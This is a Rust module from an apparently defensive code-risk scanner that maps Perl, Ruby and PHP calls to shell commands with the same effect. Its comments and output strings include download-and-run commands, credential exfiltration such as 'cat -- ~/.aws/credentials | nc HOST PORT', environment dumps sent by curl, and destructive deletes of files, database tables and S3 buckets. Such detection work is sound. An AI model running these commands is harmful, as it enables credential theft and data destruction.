//! What Perl, Ruby and PHP code does across calls, as the shell commands with the same effect:
//! files downloaded and then run (`getstore(URL, F); system("perl F")` →
//! `curl -s -o F URL && perl F`), files read outside the project (or the environment) and
//! then sent over a socket or in a request (`cat -- ~/.aws/credentials | nc HOST PORT`), HTTP
//! requests that delete (`$ua->delete(URL)` → `curl -s -X DELETE URL`), the lists a loop walks
//! (`for my $f ("a", "b")`), calls made by name (`Kernel.send(:system, …)`), argv lists
//! (`IO.popen(["sh", "-c", …])`), a script given to a shell's standard input
//! (`Open3.capture2("bash", stdin_data: …)`), a PID read from a file, ActiveRecord bulk
//! deletes (`User.delete_all` → `DELETE FROM users`) and S3 buckets emptied through the AWS SDK.

use std::collections::HashMap;

use riskgate_model::Language;

use super::scan::{delimited, split_args, string_at};
use super::vars::{self, VarVal};
use super::{FCall, Val, join_argv};

/// At most this many occurrences of a textual form are examined per snippet, each within
/// [`LOOK_BACK`] bytes: work stays linear in the text on hostile input.
const MAX_SITES: usize = 1_000;
const LOOK_BACK: usize = 4 * 1024;

/// The text before `k`, at most [`LOOK_BACK`] bytes of it (on a character boundary).
fn before(code: &str, k: usize) -> &str {
    let mut from = k.saturating_sub(LOOK_BACK);
    while !code.is_char_boundary(from) {
        from += 1;
    }
    code.get(from..k).unwrap_or("")
}

/// The rest of the statement at `k` (up to a newline or `;`, at most [`LOOK_BACK`] bytes).
fn statement_at(code: &str, k: usize) -> &str {
    let rest = code.get(k..).unwrap_or("");
    let mut end = rest.len().min(LOOK_BACK);
    while !rest.is_char_boundary(end) {
        end -= 1;
    }
    let rest = &rest[..end];
    &rest[..rest.find(['\n', ';']).unwrap_or(rest.len())]
}

/// Calls that save what a URL serves into a file: (name, URL argument, path argument).
const SAVES: [(&str, usize, usize); 6] = [
    ("getstore", 0, 1),
    ("LWP::Simple::getstore", 0, 1),
    ("mirror", 0, 1),
    ("LWP::Simple::mirror", 0, 1),
    // PHP `copy("http://…", $f)`
    ("copy", 0, 1),
    ("IO.copy_stream", 0, 1),
];

/// Calls that write their second argument into the file their first names.
const WRITES: [&str; 4] = [
    "File.write",
    "IO.write",
    "File.binwrite",
    "file_put_contents",
];

/// Text that reads what a URL serves.
const NET_READS: [&str; 11] = [
    "URI.open",
    "open(\"http",
    "open('http",
    "Net::HTTP.get",
    "Net.HTTP.get",
    "HTTParty.get",
    "RestClient.get",
    "Faraday.get",
    "file_get_contents(",
    "get(",
    "->get(",
];

fn url_of(v: &Val, vars: &HashMap<String, Option<VarVal>>) -> Option<String> {
    let is_url = |s: &str| s.starts_with("http://") || s.starts_with("https://");
    match v {
        Val::Str(s) if is_url(s) => Some(s.clone()),
        Val::Other(t) => match vars::resolve(t, vars) {
            Some(VarVal::Remote(u)) => Some(u.clone()),
            Some(VarVal::Str(s)) if is_url(s) => Some(s.clone()),
            _ if NET_READS.iter().any(|n| t.contains(n)) => vars::url_in(t, vars),
            _ => None,
        },
        _ => None,
    }
}

/// The (path, URL) a call downloads into.
pub(super) fn download_of(
    c: &FCall,
    vars: &HashMap<String, Option<VarVal>>,
) -> Option<(String, String)> {
    let (url_at, path_at) = SAVES
        .iter()
        .find(|(n, _, _)| *n == c.name)
        .map(|(_, u, p)| (*u, *p))
        .or_else(|| WRITES.contains(&c.name.as_str()).then_some((1, 0)))?;
    let url = url_of(c.args.get(url_at)?, vars)?;
    let path = match c.args.get(path_at)? {
        Val::Str(p) if !p.is_empty() && !p.contains("://") => p.clone(),
        Val::Other(t) => match vars::resolve(t, vars) {
            Some(VarVal::Str(p)) => p.clone(),
            _ => return None,
        },
        _ => return None,
    };
    Some((path, url))
}

/// A command that runs a file the code downloaded, preceded by the download.
pub(super) fn after_downloads(text: String, downloads: &[(String, String)]) -> String {
    match downloads.iter().find(|(p, _)| mentions(&text, p)) {
        Some((p, u)) => format!(
            "curl -s -o {} {} && {text}",
            join_argv(std::slice::from_ref(p)),
            join_argv(std::slice::from_ref(u))
        ),
        None => text,
    }
}

/// Whether `text` names `path` as a word (not as part of a longer name).
fn mentions(text: &str, path: &str) -> bool {
    text.match_indices(path).any(|(k, _)| {
        let after = text[k + path.len()..].chars().next();
        let before = text[..k].chars().next_back();
        !after.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '/' | '-'))
            && !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '-'))
    })
}

/// The URL an HTTP call deletes: `$ua->delete(URL)`, `HTTParty.delete(URL)`,
/// `Net::HTTP::Delete.new(uri)`, `HTTP::Request->new("DELETE", URL)`.
pub(super) fn http_delete(c: &FCall, vars: &HashMap<String, Option<VarVal>>) -> Option<String> {
    let n = c.name.as_str();
    let short = n.rsplit(['.', ':', '>']).next().unwrap_or(n);
    let receiver = n.len() > short.len();
    if short == "delete" && receiver
        || n.ends_with("HTTP.Delete.new")
        || n.ends_with("HTTP::Delete")
    {
        return url_of(c.args.first()?, vars);
    }
    let request = n.ends_with("HTTP::Request.new") || n.ends_with("HTTP::Request");
    if request && matches!(c.args.first(), Some(Val::Str(m)) if m.eq_ignore_ascii_case("DELETE")) {
        return url_of(c.args.get(1)?, vars);
    }
    None
}

/// The URL a call posts to: `Net::HTTP.post(URI(…), body)`, `$ua->post(URL, …)`,
/// `HTTParty.post(URL, …)`, `RestClient.put(URL, …)`, `Net::HTTP::Post.new(uri)`.
fn post_url(c: &FCall, vars: &HashMap<String, Option<VarVal>>) -> Option<String> {
    let n = c.name.as_str();
    let short = n.rsplit(['.', ':', '>']).next().unwrap_or(n);
    let receiver = n.len() > short.len();
    let posts = receiver
        && matches!(
            short,
            "post" | "post_form" | "put" | "patch" | "request_post"
        )
        || n.ends_with("HTTP.Post.new")
        || n.ends_with("HTTP::Post");
    if !posts {
        return None;
    }
    url_of(c.args.first()?, vars).or_else(|| vars::url_in(&c.raw, vars))
}

/// Files read outside the project, or the environment, sent over the code's socket or in a
/// request: `SOURCE | nc HOST PORT`, `SOURCE | curl -s --data-binary @- URL`.
pub(super) fn sends(
    code: &str,
    lang: Language,
    calls: &[FCall],
    reads: &[String],
    socket: Option<&FCall>,
    vars: &HashMap<String, Option<VarVal>>,
) -> Vec<String> {
    let outside: Vec<String> = reads
        .iter()
        .filter(|p| p.starts_with('/') || p.starts_with('~'))
        .cloned()
        .collect();
    let source = if !outside.is_empty() {
        format!("cat -- {}", join_argv(&outside))
    } else if dumps_env(code, lang) {
        "env".to_string()
    } else {
        return Vec::new();
    };
    let mut out = Vec::new();
    if let Some(s) = socket
        && writes_to_socket(code, lang, s)
    {
        let (host, port) = peer(s);
        out.push(format!("{source} | nc {host} {port}"));
    }
    for u in calls.iter().filter_map(|c| post_url(c, vars)) {
        let cmd = format!(
            "{source} | curl -s --data-binary @- {}",
            join_argv(std::slice::from_ref(&u))
        );
        if !out.contains(&cmd) {
            out.push(cmd);
        }
    }
    out
}

fn dumps_env(code: &str, lang: Language) -> bool {
    let marks: &[&str] = match lang {
        Language::Perl => &["%ENV", "keys %ENV", "each %ENV"],
        Language::Ruby => &[
            "ENV.each",
            "ENV.to_h",
            "ENV.map",
            "ENV.to_a",
            "ENV.inspect",
            "ENV.sort",
        ],
        _ => &["getenv()", "$_ENV", "print_r($_SERVER", "phpinfo("],
    };
    marks.iter().any(|m| code.contains(m))
}

/// Whether the code writes to the socket it made (the variable it assigned it to).
fn writes_to_socket(code: &str, lang: Language, socket: &FCall) -> bool {
    let Some(name) = vars::assigned_name(code, lang, &socket.raw) else {
        return false;
    };
    let forms: Vec<String> = match lang {
        Language::Perl => [
            "print {n} ",
            "print {{{n}}}",
            "printf {n} ",
            "syswrite({n}",
            "syswrite {n}",
            "send({n}",
            "{n}->print",
            "{n}->send",
            "{n}->syswrite",
            "{n}->write",
        ]
        .iter()
        .map(|f| f.replace("{n}", &name))
        .collect(),
        Language::Ruby => [".write", ".puts", ".print", ".send", ".sendmsg", " << "]
            .iter()
            .map(|f| format!("{name}{f}"))
            .collect(),
        _ => [
            "fwrite({n}",
            "fputs({n}",
            "socket_write({n}",
            "socket_send({n}",
        ]
        .iter()
        .map(|f| f.replace("{n}", &name))
        .collect(),
    };
    forms.iter().any(|f| code.contains(f.as_str()))
}

/// The host and port a socket call connects to (its literals, or `PeerAddr => "h"`,
/// `PeerPort => 8443`, `"h:p"`).
pub(super) fn peer(s: &FCall) -> (String, String) {
    let mut host: Option<String> = None;
    let mut port: Option<String> = None;
    for v in &s.args {
        match v {
            Val::Str(x) if x.contains('.') || x.contains(':') => {
                if let Some((h, p)) = x.rsplit_once(':')
                    && p.chars().all(|c| c.is_ascii_digit())
                    && !p.is_empty()
                {
                    host.get_or_insert(h.to_string());
                    port.get_or_insert(p.to_string());
                } else {
                    host.get_or_insert(x.clone());
                }
            }
            Val::Str(x) | Val::Num(x) if !x.is_empty() && x.chars().all(|c| c.is_ascii_digit()) => {
                port.get_or_insert(x.clone());
            }
            _ => {}
        }
    }
    // `PeerAddr => "h", PeerPort => 8443` (named arguments are not among `args`)
    let raw = s.raw.as_str();
    let named = |key: &str| -> Option<String> {
        let k = raw.find(key)?;
        let rest = raw[k + key.len()..]
            .trim_start()
            .trim_start_matches("=>")
            .trim_start();
        let v: String = if rest.starts_with(['"', '\'']) {
            string_at(rest, 0).0
        } else {
            rest.chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '.')
                .collect()
        };
        (!v.is_empty()).then_some(v)
    };
    if host.is_none() {
        host = named("PeerAddr").or_else(|| named("PeerHost"));
    }
    if port.is_none() {
        port = named("PeerPort");
    }
    if let Some(h) = host.clone()
        && port.is_none()
        && let Some((h2, p)) = h.rsplit_once(':')
        && !p.is_empty()
        && p.chars().all(|c| c.is_ascii_digit())
    {
        host = Some(h2.to_string());
        port = Some(p.to_string());
    }
    (
        host.unwrap_or_else(|| "HOST".into()),
        port.unwrap_or_else(|| "PORT".into()),
    )
}

/// The literal lists loops walk: `for my $f ("a", "b")`, `foreach ("a", "b")`,
/// `["a", "b"].each`, `%w[a b].each`.
pub(super) fn loop_lists(code: &str, lang: Language) -> Vec<String> {
    let mut out = Vec::new();
    match lang {
        Language::Perl => {
            for kw in ["for ", "foreach "] {
                for (k, _) in code.match_indices(kw).take(MAX_SITES) {
                    let before = code[..k].chars().next_back();
                    if before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
                        continue;
                    }
                    let rest = code[k + kw.len()..].trim_start();
                    let rest = rest
                        .strip_prefix("my ")
                        .map(str::trim_start)
                        .unwrap_or(rest);
                    let rest = match rest.strip_prefix('$') {
                        Some(r) => r
                            .trim_start_matches(|c: char| c.is_alphanumeric() || c == '_')
                            .trim_start(),
                        None => rest,
                    };
                    let off = code.len() - rest.len();
                    if let Some((inner, _)) = delimited(code, off).filter(|_| rest.starts_with('('))
                    {
                        out.extend(literals(&inner, lang));
                    }
                }
            }
        }
        Language::Ruby => {
            for (k, _) in code.match_indices("].each").take(MAX_SITES) {
                let head = before(code, k);
                let Some(open) = head.rfind('[') else {
                    continue;
                };
                let inner = &head[open + 1..];
                if head[..open].ends_with("%w") || head[..open].ends_with("%W") {
                    out.extend(inner.split_whitespace().map(str::to_string));
                } else {
                    out.extend(literals(inner, lang));
                }
            }
        }
        _ => {}
    }
    out.truncate(1_000);
    out
}

/// A call that runs its block on every file under the directories it is given: Perl's
/// `find(sub { … }, DIR)` / `finddepth` (File::Find, a `sub` or `wanted` first), Ruby's
/// `Find.find(DIR) { |f| … }`.
pub(super) fn walks_tree(c: &FCall, lang: Language) -> bool {
    match lang {
        Language::Perl => {
            matches!(
                c.name.as_str(),
                "find" | "finddepth" | "File::Find::find" | "File::Find::finddepth"
            ) && c
                .raw
                .split_once('(')
                .is_some_and(|(_, r)| r.trim_start().starts_with("sub") || r.contains("wanted"))
        }
        Language::Ruby => c.name == "Find.find",
        _ => false,
    }
}

/// The values of a list when all are literals.
fn literals(inner: &str, lang: Language) -> Vec<String> {
    let vals = split_args(inner, lang);
    let strs: Option<Vec<String>> = vals
        .iter()
        .map(|v| match v {
            Val::Str(s) => Some(s.clone()),
            _ => None,
        })
        .collect();
    strs.unwrap_or_default()
}

/// Ruby's calls by name: `Kernel.send(:system, …)`, `public_send`, `__send__` (the symbol is the
/// first argument, read as a string): the call of that name.
pub(super) fn sent_name(c: &FCall) -> Option<String> {
    let (receiver, short) = match c.name.rsplit_once('.') {
        Some((r, s)) => (r, s),
        None => ("", c.name.as_str()),
    };
    if !matches!(short, "send" | "public_send" | "__send__") {
        return None;
    }
    let Some(Val::Str(m)) = c.args.first() else {
        return None;
    };
    Some(match receiver {
        "" | "Kernel" | "Object" | "self" => m.clone(),
        r => format!("{r}.{m}"),
    })
}

/// An argv given as a list literal: `["sh", "-c", "…"]`.
pub(super) fn list_argv(v: &Val, lang: Language) -> Option<Vec<Val>> {
    let Val::Other(t) = v else {
        return None;
    };
    let inner = t.trim().strip_prefix('[')?.strip_suffix(']')?;
    let items = split_args(inner, lang);
    (!items.is_empty()).then_some(items)
}

/// The script a shell is given on its standard input: `Open3.capture2("bash", stdin_data:
/// "…")`.
pub(super) fn stdin_script(raw: &str) -> Option<String> {
    let k = raw.find("stdin_data:")?;
    let rest = raw[k + "stdin_data:".len()..].trim_start();
    if !rest.starts_with(['"', '\'']) {
        return None;
    }
    let (s, _) = string_at(rest, 0);
    Some(s)
}

/// A PID read from a file (`File.read("/run/sshd.pid").to_i`): the `cat` of that file.
pub(super) fn pid_from_file(raw: &str) -> Option<String> {
    let reads = [
        "File.read",
        "IO.read",
        "File.readlines",
        "read_file",
        "slurp",
        "file_get_contents",
    ];
    if !reads.iter().any(|r| raw.contains(r)) {
        return None;
    }
    let q = raw.find(['"', '\''])?;
    let (p, _) = string_at(raw, q);
    (!p.is_empty()).then(|| format!("$(cat {})", join_argv(&[p])))
}

/// Ruby data deleted in bulk: `User.delete_all`, `Order.destroy_all` (a model class, no
/// condition) → `DELETE FROM users`.
pub(super) fn bulk_deletes(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    for m in [".delete_all", ".destroy_all"] {
        for (k, _) in code.match_indices(m).take(MAX_SITES) {
            let head = before(code, k);
            let head = head.strip_suffix(".all").unwrap_or(head);
            let start = head
                .char_indices()
                .rev()
                .find(|(_, c)| !(c.is_alphanumeric() || *c == '_' || *c == ':'))
                .map(|(i, c)| i + c.len_utf8())
                .unwrap_or(0);
            let model = head.get(start..).unwrap_or("");
            let model = model.rsplit("::").next().unwrap_or(model);
            if !model.starts_with(|c: char| c.is_ascii_uppercase()) || model == "ENV" {
                continue;
            }
            let stmt = format!("DELETE FROM {}", table_of(model));
            if !out.contains(&stmt) {
                out.push(stmt);
            }
            if out.len() >= 100 {
                return out;
            }
        }
    }
    out
}

/// `OrderItem` → `order_items`.
fn table_of(model: &str) -> String {
    let mut t = String::new();
    for (i, c) in model.chars().enumerate() {
        if c.is_ascii_uppercase() {
            if i > 0 {
                t.push('_');
            }
            t.push(c.to_ascii_lowercase());
        } else {
            t.push(c);
        }
    }
    if t.ends_with('s') { t } else { format!("{t}s") }
}

/// Ruby's `Pathname` deletions: `Pathname.new(P).rmtree` → `rm -rf -- P`,
/// `Pathname(P).delete` / `.unlink` → `rm -f -- P` (a directory: `rmdir`, as `rm -f` fails).
pub(super) fn pathname_deletes(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    for head in ["Pathname.new(", "Pathname("] {
        for (k, _) in code.match_indices(head).take(MAX_SITES) {
            if head == "Pathname(" && code[..k].ends_with('.') {
                continue;
            }
            let open = k + head.len() - 1;
            let Some((inner, end)) = delimited(code, open) else {
                continue;
            };
            let p = match split_args(&inner, Language::Ruby).into_iter().next() {
                Some(Val::Str(p)) => p,
                Some(_) => "$ARG".to_string(),
                None => continue,
            };
            let stmt = statement_at(code, end);
            let flag = if stmt.starts_with(".rmtree") {
                "-rf"
            } else if stmt.starts_with(".delete") || stmt.starts_with(".unlink") {
                "-f"
            } else {
                continue;
            };
            out.push(format!("rm {flag} -- {}", join_argv(&[p])));
            if out.len() >= 100 {
                return out;
            }
        }
    }
    out
}

/// S3 buckets emptied or deleted through the AWS SDK for Ruby: `….bucket("b").objects
/// .batch_delete!` → `aws s3 rm s3://b --recursive`, `….bucket("b").delete!` →
/// `aws s3 rb s3://b --force`.
pub(super) fn s3_deletes(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (k, _) in code.match_indices(".bucket(").take(MAX_SITES) {
        let open = k + ".bucket".len();
        let Some((inner, end)) = delimited(code, open) else {
            continue;
        };
        let Some(Val::Str(b)) = split_args(&inner, Language::Ruby).into_iter().next() else {
            continue;
        };
        let stmt = statement_at(code, end);
        let bucket = join_argv(&[format!("s3://{b}")]);
        if stmt.starts_with(".objects")
            && ["batch_delete!", ".delete", "(&:delete)"]
                .iter()
                .any(|d| stmt.contains(d))
        {
            out.push(format!("aws s3 rm {bucket} --recursive"));
        } else if stmt.starts_with(".delete!") {
            out.push(format!("aws s3 rb {bucket} --force"));
        }
        if out.len() >= 100 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_lists() {
        assert!(mentions("perl /tmp/p.pl", "/tmp/p.pl"));
        assert!(!mentions("perl /tmp/p.pl.bak", "/tmp/p.pl"));
        assert_eq!(
            loop_lists("for my $f (\"/a\", \"/b\") { }", Language::Perl),
            ["/a", "/b"]
        );
        assert_eq!(
            loop_lists("%w[/a /b].each { |f| }", Language::Ruby),
            ["/a", "/b"]
        );
        assert_eq!(
            bulk_deletes(
                "User.delete_all; Order.where(x: 1).delete_all; OrderItem.all.destroy_all"
            ),
            ["DELETE FROM users", "DELETE FROM order_items"]
        );
        // text before the model that is not ASCII
        assert_eq!(bulk_deletes("→User.delete_all"), ["DELETE FROM users"]);
        assert!(bulk_deletes("é.delete_all").is_empty());
        assert_eq!(
            s3_deletes("s3.bucket(\"b\").objects.batch_delete!"),
            ["aws s3 rm s3://b --recursive"]
        );
        assert_eq!(
            pid_from_file("File.read(\"/run/sshd.pid\").to_i").as_deref(),
            Some("$(cat /run/sshd.pid)")
        );
        assert_eq!(
            stdin_script("Open3.capture2(\"bash\", stdin_data: \"ls\\n\")").as_deref(),
            Some("ls\n")
        );
    }
}
